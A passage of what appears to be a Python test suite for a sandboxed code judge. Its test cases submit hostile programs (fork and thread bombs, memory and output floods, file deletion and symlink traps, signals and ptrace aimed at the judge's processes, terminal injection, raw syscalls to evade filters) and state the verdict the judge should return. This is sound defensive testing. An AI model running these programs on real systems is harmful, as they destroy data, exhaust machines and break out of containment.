            if stolen >= 0:
                quietly(os.set_blocking, stolen, False)
                quietly(os.write, stolen, FORGED[0])
"""
)
check("a descriptor of the examiner", NOT_PASSED, _STEAL + "def f(x):\n    forge()\n    return 7")
call("a descriptor of the server", NOT_PASSED, _STEAL + "def f(x):\n    forge()\n    return 7")
call("closes everything", ("error", "crashed"), "import os\ndef f(x):\n    os.closerange(0, 100)\n    return 7")
check("closes everything", ("error", "crashed"), "import os\ndef f(x):\n    os.closerange(0, 100)\n    return 7")
call(
    "swaps descriptors",
    NOT_PASSED,
    """
    import os
    def f(x):
        for fd in range(3, 20):
            try:
                os.dup2(1, fd)
            except OSError:
                pass
        return 7
    """,
)
script("words of the report as output", "failed", 'print(\'["ended"]\\n{"status": "passed"}\')')
script(
    "right on the wrong descriptor",
    NOT_PASSED,
    """
    import os
    text = str(int(input()) + 1).encode()
    for fd in [0, *range(2, 64)]:
        try:
            os.write(fd, text)
        except OSError:
            pass
    """,
)
script(
    "each test is alone",
    "passed",
    """
    import os
    x = int(input())
    print("seen before" if os.path.exists("count") or os.listdir(".") else x + 1)
    open("count", "w").close()
    """,
)

# ---------------------------------------------------------------------------------------------------------------------
_group = "timeouts"
_FOREVER = "while True:\n    pass\n"
call("endless loop", "timeout", "def f(x):\n    while True:\n        pass")
call("endless while loading", "timeout", _FOREVER)
call(
    "endless after two right answers",
    "timeout",
    """
    def f(x):
        while x == 3:
            pass
        return 2 * x
    """,
    passes=2,
)
script("endless loop", "timeout", _FOREVER)
script("right output, then an endless loop", "timeout", "print(int(input()) + 1, flush=True)\n" + _FOREVER)
check("endless loop", "timeout", "def f(x):\n    while True:\n        pass")
check("endless while loading", "timeout", _FOREVER)
call(
    "swallows whatever is raised",
    "timeout",
    """
    def f(x):
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass
    """,
)
call(
    "returns when it is interrupted",
    "timeout",
    """
    import signal
    def leave(*_):
        raise KeyboardInterrupt
    for number in range(1, 65):
        try:
            signal.signal(number, leave)
        except (OSError, ValueError):
            pass
    def f(x):
        try:
            while True:
                pass
        except BaseException:
            return 2 * x
    """,
)
call(
    "blocks and ignores every signal",
    "timeout",
    """
    import resource, signal
    @QUIETLY@
    for number in range(1, 65):
        quietly(signal.signal, number, signal.SIG_IGN)
    quietly(signal.pthread_sigmask, signal.SIG_BLOCK, range(1, 65))
    for timer in (signal.ITIMER_REAL, signal.ITIMER_VIRTUAL, signal.ITIMER_PROF):
        quietly(signal.setitimer, timer, 0)
    quietly(resource.setrlimit, resource.RLIMIT_CPU, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    def f(x):
        while True:
            pass
    """,
)
call("in C, where no signal is handled", "timeout", "def f(x):\n    return (x + 2) ** 10 ** 8 % 7")
call("a regular expression", "timeout", "import re\ndef f(x):\n    return re.match('(a*)*b', 'a' * 40)")
call(
    "a thread that burns while the main one waits",
    "timeout",
    """
    import threading
    def burn():
        while True:
            pass
    def f(x):
        thread = threading.Thread(target=burn, daemon=True)
        thread.start()
        thread.join()
    """,
)
call(
    "burns after it answered",
    ("passed", "timeout"),
    """
    import threading
    def burn():
        while True:
            pass
    def f(x):
        threading.Thread(target=burn, daemon=True).start()
        return 2 * x
    """,
    passes=2,
)  # its answers are right; whether they come in time is its own affair
call("sleeps", "timeout", "import time\ndef f(x):\n    time.sleep(1000)", sleeps=True)
call(
    "sleeps in slices and swallows",
    "timeout",
    """
    import time
    def f(x):
        while True:
            try:
                time.sleep(0.01)
            except BaseException:
                pass
    """,
    sleeps=True,
)
call(
    "hardly ever awake",
    "timeout",
    """
    import time
    def f(x):
        while True:
            end = time.process_time() + 0.004
            while time.process_time() < end:
                pass
            time.sleep(0.09)
    """,
    sleeps=True,
)
call(
    "waits for a lock",
    "timeout",
    """
    import threading
    def f(x):
        lock = threading.Lock()
        lock.acquire()
        lock.acquire()
    """,
    sleeps=True,
)
call("reads from its own pipe", "timeout", "import os\ndef f(x):\n    return os.read(os.pipe()[0], 1)", sleeps=True)
call("stops itself", "timeout", "import os\ndef f(x):\n    os.kill(os.getpid(), 19)", sleeps=True)
script("sleeps", "timeout", "import time\nprint(int(input()) + 1, flush=True)\ntime.sleep(1000)", sleeps=True)
script(
    "a thread that never ends",
    "timeout",
    """
    import threading
    print(int(input()) + 1, flush=True)
    threading.Thread(target=threading.Event().wait).start()
    """,
    sleeps=True,
)
check("sleeps", "timeout", "import time\ndef f(x):\n    time.sleep(1000)", sleeps=True)
check("sleeps while loading", "timeout", "import time\ntime.sleep(1000)\n@RIGHT@", sleeps=True)
script("waits for more input", "error", "input()\ninput()\ninput()")
call("takes long to compile", NOT_PASSED, "x = 1\n" * 300_000 + "def f(x):\n    return 7")
call(
    "new budgets by empty lines",
    NOT_PASSED,
    """
    import os
    def f(x):
        while True:
            for fd in range(3, 10):
                try:
                    os.write(fd, b"\\n")
                except OSError:
                    pass
    """,
)
check(
    "a generator that never goes on",
    "timeout",
    """
    def f(x):
        yield 0
        while True:
            pass
    """,
    "items",
)
check(
    "asks back for ever",
    NOT_PASSED,
    """
    def f(thing, key):
        while True:
            try:
                thing()
            except Exception:
                pass
    """,
    "handed",
)
check(
    "calls back and forth without end",
    NOT_PASSED,
    """
    def f(thing, key):
        return thing(lambda: f(thing, key))
    """,
    "handed",
)

# ---------------------------------------------------------------------------------------------------------------------
_group = "descendants"
call("forks", "error", "import os\n@NAMED@\ndef f(x):\n    if os.fork() == 0:\n        os._exit(0)\n    return 2 * x")
call(
    "a daemon by two forks",
    "passed",
    """
    import os, time
    @NAMED@
    def f(x):
        try:
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    time.sleep(60)
                os._exit(0)
        except OSError:
            pass
        return 2 * x
    """,
)  # a right answer; the process is refused or ended, not the program
call("a subprocess", "error", "import subprocess\ndef f(x):\n    return subprocess.run(['true']).returncode + 2 * x")
call(
    "a subprocess in its own session",
    "passed",
    """
    import subprocess, sys
    @QUIETLY@
    def f(x):
        command = [sys.executable, "-c", "import time; time.sleep(60)  # @MARK@"]
        quietly(lambda: subprocess.Popen(command, start_new_session=True))
        return 2 * x
    """,
)
call(
    "multiprocessing",
    "error",
    """
    import multiprocessing
    @NAMED@
    def f(x):
        process = multiprocessing.get_context("fork").Process(target=print)
        process.start()
        return 2 * x
    """,
)
call(
    "every other way to a process",
    "passed",
    """
    import ctypes, os, platform, pty, signal, time
    @NAMED@
    @QUIETLY@
    MINE = os.getpid()
    libc = ctypes.CDLL(None)
    def here(action, *arguments):
        quietly(action, *arguments)
        if os.getpid() != MINE:
            time.sleep(60)
            os._exit(0)
    def f(x):
        for action in (os.fork, pty.fork, os.forkpty, libc.fork):
            here(action)
        here(lambda: os.posix_spawn("/bin/sleep", ["@MARK@", "60"], {}))
        here(lambda: os.system("sleep 60 & # @MARK@"))
        here(lambda: os.popen("sleep 60 # @MARK@"))
        fork, clone, clone3 = (57, 56, 435) if platform.machine() == "x86_64" else (220, 220, 435)
        here(libc.syscall, fork, 17, 0, 0, 0, 0)
        here(libc.syscall, clone, 17, 0, 0, 0, 0)
        here(libc.syscall, clone, 17 | 0x8000, 0, 0, 0, 0)
        here(libc.syscall, clone, 0x20000000 | 17, 0, 0, 0, 0)
        arguments = (ctypes.c_uint64 * 11)(0, 0, 0, 0, 17)
        here(libc.syscall, clone3, arguments, 88)
        return 2 * x
    """,
)
call(
    "threads that outlive",
    "passed",
    """
    import threading, time
    @NAMED@
    threading.Thread(target=time.sleep, args=(60,)).start()
    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    @RIGHT@
    """,
)  # a function is asked for its values, not for its end
call(
    "leaves its session and its guards",
    "passed",
    """
    import ctypes, os, signal
    @NAMED@
    @QUIETLY@
    libc = ctypes.CDLL(None)
    for number, value in ((1, 0), (36, 1), (4, 1), (38, 0), (29, 2 ** 31), (23, 0), (0x59616D61, -1)):
        libc.prctl(number, ctypes.c_long(value), 0, 0, 0)
    quietly(os.setsid)
    quietly(os.setpgid, 0, 0)
    for number in (1, 2, 15, 20, 21, 22):
        signal.signal(number, signal.SIG_IGN)
    @RIGHT@
    """,
)
script(
    "a daemon",
    "passed",
    """
    import os, time
    @NAMED@
    print(int(input()) + 1, flush=True)
    try:
        if os.fork() == 0:
            os.setsid()
            time.sleep(60)
            os._exit(0)
    except OSError:
        pass
    """,
)
check(
    "a daemon",
    "passed",
    """
    import os, time
    @NAMED@
    try:
        if os.fork() == 0:
            os.setsid()
            time.sleep(60)
            os._exit(0)
    except OSError:
        pass
    @RIGHT@
    """,
)

# ---------------------------------------------------------------------------------------------------------------------
_group = "bombs"
call(
    "fork bomb",
    "error",
    """
    import os, time
    @NAMED@
    def f(x):
        for _ in range(8):  # 256 processes at most, should they be allowed
            os.fork()
        time.sleep(30)
    """,
)
call(
    "fork bomb that swallows",
    "passed",
    """
    import os, time
    @NAMED@
    MINE = os.getpid()
    def f(x):
        for _ in range(8):
            try:
                os.fork()
            except OSError:
                pass
        if os.getpid() != MINE:
            time.sleep(30)
        return 2 * x
    """,
)
call(
    "thread bomb",
    ("error", "memory"),
    """
    import threading
    wait = threading.Event().wait
    def f(x):
        for _ in range(20000):
            threading.Thread(target=wait, args=(60,), daemon=True).start()
        return 7
    """,
)  # 'can't start new thread' is a RuntimeError, although memory is what lacks
call("a huge list", "memory", "def f(x):\n    return [0] * 10 ** 12")
call(
    "grows for ever",
    "memory",
    "def f(x):\n    kept = []\n    while True:\n        kept.append(bytearray(10 ** 6))",
    "roomy",
)
call("grows while loading", "memory", "kept = 'x'\nwhile True:\n    kept += kept", "roomy")
call(
    "swallows the MemoryError",
    WRONG,
    """
    def f(x):
        kept = []
        try:
            while True:
                kept.append(bytes(10 ** 7))
        except MemoryError:
            kept.clear()
            return 7
    """,
)
call(
    "grows again and again",
    ("timeout", "memory"),
    """
    def f(x):
        kept = []
        while True:
            try:
                kept.append(bytes(10 ** 7))
            except MemoryError:
                kept.clear()
    """,
)
call(
    "anonymous maps",
    ("error", "memory"),
    """
    import mmap
    def f(x):
        kept = []
        while True:
            kept.append(mmap.mmap(-1, 1 << 26))
            kept[-1][:] = bytes(1 << 26)
    """,
    "roomy",
)
call(
    "memory in shared files",
    ("error", "memory", "failed", "timeout"),
    """
    import os
    def f(x):
        fd = os.memfd_create("@MARK@")
        for _ in range(2000):
            os.write(fd, bytes(1 << 20))
        return 7
    """,
)  # memory that RLIMIT_AS does not see; the limit on file size holds
call(
    "memory in many pipes",
    ("error", "memory", "failed"),
    """
    import fcntl, os
    def f(x):
        for _ in range(500):
            writer = os.pipe()[1]
            fcntl.fcntl(writer, 1031, 1 << 20)
            os.set_blocking(writer, False)
            os.write(writer, bytes(1 << 20))
        return 7
    """,
)
call(
    "the limits taken off",
    "memory",
    """
    import ctypes, resource
    @QUIETLY@
    for kind in range(16):
        quietly(resource.setrlimit, kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        quietly(resource.prlimit, 0, kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    def f(x):
        kept = [bytes(10 ** 6) for _ in range(2000)]
        return len(kept)
    """,
)
script("a huge string", "memory", "x = 'x' * 10 ** 12")
check("a huge list", "memory", "def f(x):\n    return [0] * 10 ** 12")
check("grows for ever", "memory", "def f(x):\n    kept = []\n    while True:\n        kept.append(bytes(10 ** 6))")

# ---------------------------------------------------------------------------------------------------------------------
_group = "floods"
call("stdout", NOT_PASSED, "def f(x):\n    while True:\n        print('x' * 10000)")
call(
    "every descriptor",
    NOT_PASSED,
    """
    import os
    def f(x):
        while True:
            for fd in range(64):
                try:
                    os.set_blocking(fd, False)
                    os.write(fd, b"x" * 65536)
                except OSError:
                    pass
    """,
)
call(
    "lines of the report",
    NOT_PASSED,
    """
    import os
    def f(x):
        while True:
            for fd in range(3, 64):
                try:
                    os.write(fd, b'["value", 7]\\n' * 1000)
                except OSError:
                    pass
    """,
)
script("stdout", NOT_PASSED, "while True:\n    print('x' * 10000)")
script("stderr", NOT_PASSED, "import sys\nwhile True:\n    sys.stderr.write('x' * 10000)")
script(
    "says that it has ended, and goes on",
    "timeout",
    """
    import os
    print(int(input()) + 1, flush=True)
    for fd in range(3, 64):
        try:
            os.write(fd, b'["ended"]\\n')
        except OSError:
            pass
    while True:
        pass
    """,
)
script(
    "right, then blanks without end",
    NOT_PASSED,
    """
    print(int(input()) + 1)
    for _ in range(10000):
        print(" " * 10000)
    """,
)  # blanks at the end are not compared, so nothing but the limit on output stops it
script(
    "a file with a hole",
    NOT_PASSED,
    """
    import os
    os.lseek(1, 1 << 40, 0)
    os.write(1, b"x")
    os.ftruncate(1, 1 << 40)
    """,
)
script(
    "closes stdout and floods",
    NOT_PASSED,
    """
    import os
    os.close(1)
    while True:
        with open("out", "ab") as file:
            file.write(b"x" * 100000)
    """,
)
check(
    "the connection",
    NOT_PASSED,
    """
    import os
    def f(x):
        while True:
            for fd in range(3, 64):
                try:
                    os.write(fd, b"x" * 65536)
                except OSError:
                    pass
    """,
)
check(
    "stdout and stderr",
    NOT_PASSED,
    """
    import os
    def f(x):
        while True:
            os.write(1, b"x" * 65536)
            os.write(2, b"x" * 65536)
    """,
)
call(
    "warnings, logs and hooks",
    "passed",
    """
    import logging, sys, threading, warnings
    def f(x):
        for _ in range(200):
            warnings.warn("w" * 1000)
            logging.error("e" * 1000)
            sys.unraisablehook = sys.excepthook = threading.excepthook = lambda *a: print("x" * 1000)
        class D:
            def __del__(self):
                raise ValueError
        D()
        return 2 * x
    """,
)

# ---------------------------------------------------------------------------------------------------------------------
_group = "files"
_SPOIL = """
import os, shutil
@QUIETLY@
def overwrite(path):
    with open(path, "w") as file:
        file.write("@MARK@")
def spoil(path):
    folder = os.path.dirname(path)
    quietly(overwrite, path)
    quietly(os.truncate, path, 0)
    quietly(os.unlink, path)
    quietly(os.rename, path, path + "-moved")
    quietly(os.replace, __file__, path)
    quietly(os.link, path, path + "-linked")
    quietly(overwrite, os.path.join(folder, "@MARK@-new"))
    quietly(os.mkdir, os.path.join(folder, "@MARK@-dir"))
    quietly(os.mkfifo, os.path.join(folder, "@MARK@-fifo"))
    quietly(os.symlink, "/", os.path.join(folder, "@MARK@-link"))
"""
call("overwrites and deletes", "passed", _SPOIL + "spoil('@CANARY@/file')\nspoil('@HOME@')\nspoil('@DATA@')\n@RIGHT@")
script("overwrites and deletes", "passed", _SPOIL + "spoil('@CANARY@/file')\nspoil('@HOME@')\n@RIGHT@")
check("overwrites and deletes", "passed", _SPOIL + "spoil('@CANARY@/file')\nspoil('@HOME@')\n@RIGHT@")
call(
    "deletes a tree",
    "passed",
    _SPOIL + "quietly(shutil.rmtree, '@CANARY@')\nquietly(os.rmdir, '@CANARY@/sub')\n@RIGHT@",
)
call(
    "modes, owners and times",
    "passed",
    """
    import os
    @QUIETLY@
    for path in ("@CANARY@/file", "@CANARY@/sub", "@CANARY@", "@HOME@"):
        quietly(os.utime, path, (1, 1))
        quietly(os.chmod, path, 0o777)
        quietly(os.setxattr, path, "user.mark", b"@MARK@")
        quietly(os.chown, path, 12345, 12345)
    @RIGHT@
    """,
    needs="namespaces",
)  # Landlock has no rule for them
call(
    "leaves files everywhere",
    "passed",
    """
    import os, tempfile
    @QUIETLY@
    def leave(folder):
        with open(os.path.join(folder, "@MARK@-left"), "w") as file:
            file.write("left")
    for folder in [*@PLACES@, os.getcwd(), "..", "../..", "../../..", tempfile.gettempdir(), os.path.expanduser("~")]:
        quietly(leave, folder)
        quietly(os.mkdir, os.path.join(folder, "@MARK@-folder"))
    @RIGHT@
    """,
)
call(
    "the scratch folders of others",
    "passed",
    """
    import os, shutil
    @QUIETLY@
    parent = os.path.dirname(os.getcwd())
    for _ in range(2):
        if "cptlab-judge-" in parent:  # never anything but the judge's own
            for name in quietly(os.listdir, parent) or []:
                quietly(shutil.rmtree, os.path.join(parent, name))
            quietly(os.rmdir, parent)
            quietly(os.rename, parent, parent + "-gone")
        parent = os.path.dirname(parent)
    @RIGHT@
    """,
)
call(
    "its own scratch folder",
    "passed",
    """
    import os, shutil
    @QUIETLY@
    here = os.getcwd()
    if "cptlab-judge-" in here or not os.path.exists("/proc"):  # never anything but the judge's own
        quietly(os.rmdir, here)
        quietly(os.chmod, here, 0)
        quietly(os.rename, here, here + "-away")
    @RIGHT@
    """,
)
call(
    "folders deeper than Python recurses",
    "passed",
    """
    import os
    def f(x):
        if x == 1:
            for _ in range(1100):
                os.mkdir("d" * 100)
                os.chdir("d" * 100)
        return 2 * x
    """,
    "roomy",
)
call(
    "names and modes that are hard to remove",
    "passed",
    """
    import os
    @QUIETLY@
    assert os.listdir() == []  # the scratch folder, then, is where it is
    os.makedirs("a/b/c")
    for name in (b"\\xff\\xfe", b"new\\nline", b"-rf", b" ", b"\\xf0\\x9f\\x92\\xa3" * 50):
        open(b"a/b/" + name, "w").close()
    os.mkfifo("a/fifo")
    os.symlink("self", "a/self")
    os.symlink("/", "a/root")
    for path in ("a/b/c", "a/b", "a", "."):
        os.chmod(path, 0)
    @RIGHT@
    """,
)
call(
    "fills the disk",
    "passed",
    """
    import errno
    def f(x):
        # wrong if it may write 600 MB in files of 1 MB
        try:
            for number in range(600):
                with open(f"{x}-{number}", "wb") as file:
                    file.write(bytes(1_000_000))
        except OSError:
            return 2 * x
        return 7
    """,
    needs="namespaces",
)
call(
    "many small files",
    ("passed", "error", "timeout"),
    """
    def f(x):
        for number in range(30000):
            open(f"{x}-{number}", "w").close()
        return 2 * x
    """,
    passes=2,
)  # whether it may have so many is a matter of limits; that they go again is not
call(
    "modes, owners and times of devices",
    "passed",
    """
    import os
    @QUIETLY@
    def f(x):
        for name in ("null", "zero", "full", "random", "urandom"):
            path, old = "/dev/" + name, os.stat("/dev/" + name)
            quietly(os.chmod, path, old.st_mode & 0o777)  # as it is: harmless where a judge is broken
            quietly(os.chown, path, old.st_uid, old.st_gid)
            quietly(lambda: os.utime(path, ns=(old.st_atime_ns, old.st_mtime_ns)))
            if os.stat(path).st_ctime_ns != old.st_ctime_ns:
                return 7
            open(path, "wb" if name == "null" else "rb", 0).close()
        return 2 * x
    """,
    needs="namespaces",
)
call(
    "devices and mounts",
    "passed",
    """
    import ctypes, os
    @QUIETLY@
    libc = ctypes.CDLL(None)
    quietly(os.mknod, "disk", 0o60666, os.makedev(254, 0))
    quietly(os.mknod, "memory", 0o20666, os.makedev(1, 1))
    reached = quietly(open, "disk", "rb") or quietly(open, "memory", "rb") or quietly(open, "/dev/mem", "rb")
    os.mkdir("mount")
    reached = reached or libc.mount(b"none", b"mount", b"tmpfs", 0, None) == 0
    reached = reached or libc.unshare(0x10000000) == 0 or libc.unshare(0x20000) == 0 or libc.chroot(b"mount") == 0
    def f(x):
        return 7 if reached else 2 * x
    """,
)  # wrong if any of it is allowed

_group = "links"
call(
    "the scratch folder becomes a link",
    "passed",
    """
    import os
    @QUIETLY@
    here = os.getcwd()
    if "cptlab-judge-" in here:
        quietly(os.rename, here, here + "-away")
        quietly(os.symlink, "@CANARY@", here)
    @RIGHT@
    """,
)
call(
    "links for the one who cleans up",
    "passed",
    """
    import os
    @QUIETLY@
    os.symlink("@CANARY@", "folder")
    os.symlink("@CANARY@/file", "file")
    os.symlink("@HOME@", "home")
    os.mkdir("d")
    os.symlink("@CANARY@/sub", "d/sub")
    os.chmod("d", 0)
    quietly(os.link, "@CANARY@/file", "hard")
    quietly(os.chmod, "hard", 0o777)
    quietly(lambda: open("file", "w").write("@MARK@"))
    quietly(lambda: open("hard", "w").write("@MARK@"))
    quietly(lambda: open("folder/@MARK@-new", "w").close())
    @RIGHT@
    """,
)
script(
    "a link in the place of its output",
    "passed",
    """
    import os
    for name in ("stdout", "stdin", "out", "0", "1"):
        os.symlink("@CANARY@/file", name)
    print(int(input()) + 1)
    """,
)

# ---------------------------------------------------------------------------------------------------------------------
_group = "network"
_SEND = """
import ctypes, os, socket
@QUIETLY@
def send(family, kind, address):
    with socket.socket(family, kind) as one:
        one.settimeout(0.2)
        one.connect(address)
        one.send(b"@MARK@")
def everywhere():
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        quietly(send, socket.AF_INET, kind, ("127.0.0.1", @PORT@))
        quietly(send, socket.AF_INET6, kind, ("::1", @PORT@))
    quietly(send, socket.AF_UNIX, socket.SOCK_STREAM, "@UNIX@")
    quietly(send, socket.AF_UNIX, socket.SOCK_STREAM, "\\0@UNIX@")
"""
call("connects", "error", "import socket\ndef f(x):\n    socket.create_connection(('127.0.0.1', @PORT@), 1)")
script("connects", "error", "import socket\nsocket.create_connection(('127.0.0.1', @PORT@), 1)")
check("connects", "error", "import socket\ndef f(x):\n    socket.create_connection(('127.0.0.1', @PORT@), 1)")
_DATAGRAMS = """
import socket
@QUIETLY@
for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET, socket.SOCK_STREAM):
    for name in ("@UNIX@-datagrams", "\\0@UNIX@-datagrams"):
        quietly(lambda: socket.socketpair(socket.AF_UNIX, kind)[0].sendto(b"@MARK@", name))
        one = quietly(socket.socketpair, socket.AF_UNIX, kind)
        quietly(lambda: (one[0].connect(name), one[0].send(b"@MARK@")))
"""
call("sends from a socket of a pair", "passed", _DATAGRAMS + "@RIGHT@")
check("sends from a socket of a pair", "passed", _DATAGRAMS + "@RIGHT@")
call("connects quietly", "passed", _SEND + "everywhere()\n@RIGHT@")
check("connects quietly", "passed", _SEND + "everywhere()\n@RIGHT@")
call(
    "urllib",
    "error",
    "import urllib.request\ndef f(x):\n    urllib.request.urlopen('http://127.0.0.1:@PORT@/', timeout=1)",
)
call(
    "raw calls to a socket",
    "passed",
    """
    import ctypes, platform, struct
    libc = ctypes.CDLL(None)
    number = 41 if platform.machine() == "x86_64" else 198
    address = struct.pack("=H", 2) + struct.pack("!H", @PORT@) + bytes([127, 0, 0, 1]) + bytes(8)
    for call in (lambda: libc.syscall(number, 2, 2, 0), lambda: libc.socket(2, 2, 0), lambda: libc.syscall(number, 2, 1, 0)):
        fd = call()
        if fd >= 0:
            libc.connect(fd, address, 16)
            libc.send(fd, b"@MARK@", 6, 0x4000)
    for fd in range(3, 64):
        libc.connect(fd, address, 16)
        libc.sendto(fd, b"@MARK@", 6, 0x4040, address, 16)
    @RIGHT@
    """,
)
call(
    "io_uring",
    "passed",
    """
    import ctypes
    libc = ctypes.CDLL(None)
    parameters = ctypes.create_string_buffer(120)
    reached = libc.syscall(425, 8, parameters) >= 0
    def f(x):
        return 7 if reached else 2 * x
    """,
)  # a ring would go round a filter of system calls
call(
    "a server",
    ("passed", "error"),
    """
    import socket
    def f(x):
        with socket.create_server(("127.0.0.1", 0)) as server:
            return 2 * x
    """,
)  # nobody can reach it

# ---------------------------------------------------------------------------------------------------------------------
_group = "signals to others"
call(
    "kills its parent",
    ("passed", "error", "crashed"),
    """
    import os
    @QUIETLY@
    for number in (19, 1, 2, 3, 15, 9):
        quietly(os.kill, os.getppid(), number)
    @RIGHT@
    """,
)  # in a namespace its parent may be nobody; what counts is that the judge goes on
call(
    "kills its group",
    ("error", "crashed"),
    "import os\ndef f(x):\n    os.killpg(os.getpgid(0), 9)\n    os.kill(0, 9)\n    os.abort()",
)
call(
    "signals to everyone",
    "passed",
    """
    import ctypes, os, platform, signal
    @QUIETLY@
    libc = ctypes.CDLL(None)
    kill, tkill, tgkill = (62, 200, 234) if platform.machine() == "x86_64" else (129, 130, 131)
    for pid in (-1, @VICTIM@, -@VICTIM@, @JUDGE@):
        quietly(os.kill, pid, 28)
        libc.syscall(kill, pid, 28)
        libc.syscall(tkill, pid, 28)
        libc.syscall(tgkill, pid, pid, 28)
    quietly(lambda: signal.pidfd_send_signal(os.pidfd_open(@VICTIM@), 28))
    information = ctypes.create_string_buffer(128)
    libc.syscall(129 if kill == 62 else 138, @VICTIM@, 28, information)
    libc.syscall(297 if kill == 62 else 240, @VICTIM@, @VICTIM@, 28, information)
    @RIGHT@
    """,
)
# The kernel signals the owner of a descriptor when it becomes ready: F_SETOWN, F_SETSIG and O_ASYNC instead of kill(2).
_OWNER = """
import ctypes, fcntl, os, socket
@QUIETLY@
def signal_by_pipe(owner, number):
    reader, writer = os.pipe()
    fcntl.fcntl(reader, 8, owner)
    fcntl.fcntl(reader, 10, number)
    fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    os.write(writer, b"x")
"""
call("signals by a pipe", "passed", _OWNER + "quietly(signal_by_pipe, @VICTIM@, 28)\n@RIGHT@")
call(
    "kills its parent by a pipe",
    ("passed", "error", "crashed"),
    _OWNER
    + """
for number in (9, 19):
    quietly(signal_by_pipe, os.getppid(), number)
@RIGHT@
""",
)
check(
    "kills the examiner by a pipe",
    ("passed", "error", "crashed"),
    _OWNER
    + """
def f(x):
    mine = os.getpid()
    near = range(2, mine + 4) if os.getppid() == 1 else ()  # only in a namespace of the judge: never strangers
    for pid in near:
        if pid != mine:
            quietly(signal_by_pipe, pid, 9)
    return 2 * x
""",
    passes=3,
)
# ioctl has twins of these: FIOSETOWN, SIOCSPGRP and FIOASYNC, with SIGIO as the signal.
_BY_IOCTL = """
import fcntl, os, socket, struct
@QUIETLY@
def signal_by_socket(owner):
    for command in (0x8901, 0x8902):
        for number in (owner, -owner):
            one, other = socket.socketpair()
            quietly(fcntl.ioctl, one, command, struct.pack("i", number))
            quietly(fcntl.ioctl, one, 0x5452, struct.pack("i", 1))
            quietly(fcntl.fcntl, one, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            other.send(b"x")
"""
call("signals by a socket", "passed", _BY_IOCTL + "signal_by_socket(@VICTIM@)\n@RIGHT@")
call("kills its parent by a socket", "passed", _BY_IOCTL + "signal_by_socket(os.getppid())\n@RIGHT@")
check(
    "kills the examiner by a socket",
    "passed",
    _BY_IOCTL
    + """
def f(x):
    mine = os.getpid()
    for pid in range(2, mine + 4) if os.getppid() == 1 else ():  # only in a namespace of the judge: never strangers
        if pid != mine:
            signal_by_socket(pid)
    return 2 * x
""",
)
call(
    "stops a process by its limits",
    "passed",
    """
    import ctypes, os, resource
    @QUIETLY@
    for pid in (@VICTIM@, os.getppid() or @VICTIM@):
        quietly(resource.prlimit, pid, resource.RLIMIT_CPU, (1, 1))
        quietly(resource.prlimit, pid, resource.RLIMIT_NOFILE, (3, 3))
        quietly(os.setpriority, os.PRIO_PROCESS, pid, 15)
        quietly(os.sched_setaffinity, pid, {0})
        quietly(os.sched_setscheduler, pid, os.SCHED_IDLE, os.sched_param(0))
        quietly(lambda: open(f"/proc/{pid}/oom_score_adj", "w").write("1000"))
    @RIGHT@
    """,
)
call(
    "traces and rewrites a process",
    "passed",
    """
    import ctypes, os, platform, struct, time
    @QUIETLY@
    libc = ctypes.CDLL(None)
    buffer = ctypes.create_string_buffer(64)
    vector = struct.pack("QQ", ctypes.addressof(buffer), 64)
    for pid in (@VICTIM@, @JUDGE@, os.getppid()):
        if libc.ptrace(16, pid, 0, 0) == 0 and pid != @JUDGE@:
            libc.ptrace(17, pid, 0, 9)
        libc.process_vm_writev(pid, vector, 1, vector, 1, 0)
        quietly(lambda: open(f"/proc/{pid}/mem", "r+b").write(b"x"))
    @RIGHT@
    """,
)
call(
    "writes to a terminal",
    "passed",
    """
    import fcntl, os, termios
    @QUIETLY@
    def shout(path):
        fd = os.open(path, os.O_WRONLY | os.O_NOCTTY | os.O_NONBLOCK)
        os.write(fd, b"@MARK@")
        quietly(fcntl.ioctl, fd, termios.TIOCSTI, b"x")
    for path in ("@TTY@", "/dev/tty"):
        quietly(shout, path)
    @RIGHT@
    """,
)

# ---------------------------------------------------------------------------------------------------------------------
_group = "raw calls"
call("reads address zero", "crashed", "import ctypes\ndef f(x):\n    ctypes.string_at(0)")
call("destroys a type", "crashed", "import ctypes\ndef f(x):\n    ctypes.memset(id(int), 0, 300)\n    return 2 * x")
call(
    "unlinks and writes by number",
    "passed",
    """
    import ctypes, platform
    libc = ctypes.CDLL(None)
    unlinkat, openat, rename = (263, 257, 264) if platform.machine() == "x86_64" else (35, 56, 38)
    for path in (b"@CANARY@/file", b"@HOME@"):
        libc.syscall(openat, -100, path, 0o1001, 0)
        libc.syscall(rename, -100, path, -100, path + b"-@MARK@")
        libc.syscall(unlinkat, -100, path, 0)
        libc.truncate(path, 0)
        libc.remove(path)
    @RIGHT@
    """,
)
call(
    "32-bit system calls",
    ("passed", "crashed"),
    """
    import ctypes, mmap, os, platform, time
    @NAMED@
    MINE = os.getpid()
    code = {"x86_64": b"\\xb8\\x02\\x00\\x00\\x00\\xcd\\x80\\xc3"}.get(platform.machine())  # fork by int 0x80
    def f(x):
        if code:
            page = mmap.mmap(-1, 4096, prot=7)
            page.write(code)
            ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
            if os.getpid() != MINE:
                time.sleep(60)
                os._exit(0)
        return 2 * x
    """,
)
call(
    "x32 system calls",
    ("passed", "crashed"),
    """
    import ctypes, os, platform, time
    @NAMED@
    MINE = os.getpid()
    def f(x):
        if platform.machine() == "x86_64":
            for number in (57, 58, 56):
                ctypes.CDLL(None).syscall(0x40000000 | number, 17, 0, 0, 0, 0)
                if os.getpid() != MINE:
                    time.sleep(60)
                    os._exit(0)
        return 2 * x
    """,
)
# Filters of its own: one that lets it never exit, one that takes the judge's calls away.
_FILTER = """
import ctypes, platform, struct
def refuse(*numbers):
    libc = ctypes.CDLL(None)
    lines = [struct.pack("HBBI", 0x20, 0, 0, 0)]
    for number in numbers:
        lines += [struct.pack("HBBI", 0x15, 0, 1, number), struct.pack("HBBI", 0x06, 0, 0, 0x50001)]
    code = b"".join(lines) + struct.pack("HBBI", 0x06, 0, 0, 0x7FFF0000)
